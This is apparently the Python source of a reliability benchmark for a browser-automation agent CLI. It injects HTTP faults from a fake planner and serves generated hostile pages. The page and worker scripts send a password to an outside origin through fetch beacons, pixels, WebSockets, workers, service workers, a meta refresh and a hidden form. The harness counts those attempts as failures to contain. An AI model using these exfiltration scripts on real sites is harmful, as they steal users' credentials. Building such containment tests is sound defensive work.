"""`agentpair bench reliability`: the real CLI run against a planner endpoint that fails in every way an
HTTP API can, and on pages that try every way out of the run's origin and show its secret in every
common encoding. Counts what should never happen: tracebacks, a secret in any output, requests that
left the allowed origin, processes left behind; and, per fault, whether the run ended with a stop
reason in a readable trace."""

from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import tempfile
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

from pydantic import BaseModel

from agentpair.bench.fake_endpoint import FakeEndpoint, LoopbackServer, Reply
from agentpair.bench.soak import descendants
from agentpair.tracing.reader import TraceError, load_trace
from agentpair.tools.base import secret_forms

SECRET = 'Open Sesame/42 "vault" & <key>'  # a space, a slash, quotes, & and brackets: every encoding differs
GOAL = "Sign in to the Vault as vault.user with password {{secret:password}}, then sign out."


def plan(*steps: dict[str, Any]) -> str:
    return json.dumps({"thought": "scripted", "steps": list(steps)})


def act(tool: str, instruction: str) -> dict[str, Any]:
    return {"kind": "act", "tool": tool, "instruction": instruction}


# the planner of the hostile run: sign in, then take every way out the page offers, one a plan (a
# refused step ends its plan), then finish
WALK = [plan(act("type", "type vault.user into the Username field"),
             act("type", "type {{secret:password}} into the Password field"), act("click", "click the Sign in button")),
        *(plan(act("click", f"click the {name}")) for name in (
            "Partner offers link", "Open partner button", "Continue button", "Send feedback button", "Account help link")),
        plan({"kind": "finish", "instruction": "the goal is done", "answer": "signed in"})]
FAULTS: dict[str, Reply] = {
    "429 with Retry-After": Reply(429, headers={"Retry-After": "1"}, body={"error": {"message": "slow down"}}),
    "500": Reply(500, body={"error": {"message": "internal error"}}),
    "hang": Reply(delay_s=30.0, content=WALK[0]),
    "connection reset": Reply(reset=True),
    "malformed JSON": Reply(raw=b'{"choices": [{"message": '),
    "HTML body": Reply(raw=b"<html><body>Bad gateway</body></html>", content_type="text/html"),
    "empty choices": Reply(body={"id": "c1", "object": "chat.completion", "choices": []}),
    "not a plan": Reply(content="Sure! I would click the button."),
}


def site(outside: str) -> dict[str, str]:
    """The hostile pages: a sign-in form sent by GET (the password lands in the URL), and a welcome
    page that shows it back encoded every way and reaches for the outside origin every way (itself,
    from its workers, dedicated, shared and service, by prefetch and preconnect)."""
    show = ('document.title = "Vault - " + pw; say("b64", "token " + btoa(pw)); '
            'say("json", "data " + JSON.stringify({pw})); say("pct", "link " + encodeURIComponent(pw)); '
            'say("ent", "html " + pw.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;")'
            '.replace(/"/g, "&quot;"));')
    leave = (f'new WebSocket("{outside.replace("http", "ws")}/socket"); '
             f'fetch("{outside}/beacon?pw=" + encodeURIComponent(pw)).catch(() => {{}}); '
             f'new Image().src = "{outside}/pixel?pw=" + encodeURIComponent(pw); new EventSource("{outside}/stream"); '
             'new Worker("worker.js"); new SharedWorker("shared.js"); navigator.serviceWorker.register("sw.js");')
    links = f'<link rel="prefetch" href="{outside}/prefetch"><link rel="preconnect" href="{outside}">'
    return {
        "index.html": '<!doctype html><title>Vault sign in</title><h1>Vault</h1><form action="welcome.html">'
                      '<label>Username <input name="user"></label><label>Password <input name="pw" type="password">'
                      '</label><button type="submit">Sign in</button></form>',
        "welcome.html": f'<!doctype html><title>Vault</title>{links}<h1>Welcome</h1><p id="b64"></p><p id="json"></p>'
                        '<p id="pct"></p><p id="ent"></p><script>const pw = new URLSearchParams(location.search)'
                        '.get("pw") || ""; const say = (id, text) => { document.getElementById(id).textContent = '
                        f'text; }}; {show} {leave}</script><iframe src="{outside}/frame"></iframe>'
                        f'<a href="{outside}/leave">Partner offers</a>'
                        f'<button onclick="window.open(\'{outside}/popup\')">Open partner</button>'
                        f'<button onclick="location.href = \'{outside}/jump?pw=\' + encodeURIComponent(pw)">Continue'
                        f'</button><form action="{outside}/collect" method="post"><input type="hidden" name="pw" '
                        'id="copy"><button>Send feedback</button></form><a href="help.html">Account help</a>'
                        '<a href="index.html">Sign out</a><script>document.getElementById("copy").value = pw;</script>',
        "help.html": f'<!doctype html><meta http-equiv="refresh" content="0;url={outside}/meta"><h1>Help</h1>',
        "worker.js": leave_from_worker(outside, "worker"), "shared.js": leave_from_worker(outside, "shared"),
        "sw.js": f'fetch("{outside}/service-worker").catch(() => {{}});',
    }


def leave_from_worker(outside: str, kind: str) -> str:
    """A worker's ways out, which the page's own routes do not see."""
    return (f'fetch("{outside}/{kind}-fetch").catch(() => {{}}); new WebSocket("{outside.replace("http", "ws")}/{kind}'
            f'-socket"); new EventSource("{outside}/{kind}-stream");')


def write_scenario(root: Path, outside: str) -> None:
    folder = root / "hostile"
    (folder / "site").mkdir(parents=True)
    for name, html in site(outside).items():
        (folder / "site" / name).write_text(html)
    (folder / "scenario.toml").write_text(
        f'description = "Pages that try every way out and show the secret in every encoding."\n'
        f'goal = {json.dumps(GOAL)}\nmax_steps = 12\n\n[secrets]\npassword = {json.dumps(SECRET)}\n\n'
        '[success]\ntext_contains = ["Welcome"]\n')


class Outside(LoopbackServer):
    """The origin the run must never reach: a loopback server that counts every request to it."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        outside = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def _hit(self) -> None:
                outside.hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = _hit

        super().__init__(Handler)


class RunOutcome(BaseModel):
    case: str
    exit_code: int
    stop_reason: str | None
    trace_readable: bool
    tracebacks: int
    secret_occurrences: int

    @property
    def survived(self) -> bool:
        return self.exit_code in (0, 1) and self.trace_readable and bool(self.stop_reason) and not self.tracebacks


def run_cli(case: str, endpoint: FakeEndpoint, scenarios_dir: Path, trace: Path) -> RunOutcome:
    """`agentpair run hostile` against the endpoint, in a process of its own; what it left behind."""
    env = {**os.environ, "AGENTPAIR_SCENARIOS": str(scenarios_dir)}
    cmd = [sys.executable, "-m", "agentpair.cli.main", "run", "hostile", "--json", "--trace", str(trace),
           "--planner-base-url", endpoint.base_url, "--planner-model", "fake", "--planner-timeout", "3"]
    proc = subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=300)
    try:
        tree = load_trace(trace)
        stop, readable = tree.root.attr("agentpair.stop_reason") if tree.root else None, True
    except (TraceError, OSError):
        stop, readable = None, False
    outputs = proc.stdout + proc.stderr + (trace.read_text(errors="replace") if trace.exists() else "")
    return RunOutcome(case=case, exit_code=proc.returncode, stop_reason=stop, trace_readable=readable,
                      tracebacks=outputs.count("Traceback (most recent call last)"),
                      secret_occurrences=sum(outputs.count(form) for form in set(secret_forms(SECRET))))


class ReliabilityReport(BaseModel):
    runs: list[RunOutcome]
    faults_total: int
    faults_survived: int
    tracebacks: int
    secret_occurrences: int
    off_origin_requests: int
    off_origin: list[str]
    stray_processes: int


def bench_reliability(on_run: Any = print) -> ReliabilityReport:
    before = set(descendants(os.getpid()))
    runs = []
    with Outside() as outside, tempfile.TemporaryDirectory(prefix="agentpair-reliability-") as tmp:
        root = Path(tmp)
        write_scenario(root / "scenarios", outside.url)
        cases = {"hostile pages": [Reply(content=text) for text in WALK], **{k: [v] for k, v in FAULTS.items()}}
        for case, replies in cases.items():
            with FakeEndpoint(replies) as endpoint:
                runs.append(run_cli(case, endpoint, root / "scenarios", root / f"{len(runs)}.jsonl"))
            on_run(runs[-1])
        hits = list(outside.hits)
    faults = [r for r in runs if r.case in FAULTS]
    return ReliabilityReport(
        runs=runs, faults_total=len(faults), faults_survived=sum(r.survived for r in faults),
        tracebacks=sum(r.tracebacks for r in runs), secret_occurrences=sum(r.secret_occurrences for r in runs),
        off_origin_requests=len(hits), off_origin=hits,
        stray_processes=len(set(descendants(os.getpid())) - before))


def main(args: argparse.Namespace) -> int:
    from rich.console import Console

    console = Console(stderr=True)
    report = bench_reliability(lambda r: console.print(
        f"{r.case}: exit {r.exit_code}, stop {r.stop_reason!r}, tracebacks {r.tracebacks}, "
        f"secret occurrences {r.secret_occurrences}", highlight=False))
    if args.json:
        print(report.model_dump_json(indent=2))
    else:
        console.print(report.model_dump(exclude={"runs"}))
    clean = (report.faults_survived == report.faults_total and not report.tracebacks and not report.secret_occurrences
             and not report.off_origin_requests and not report.stray_processes)
    return 0 if clean else 1
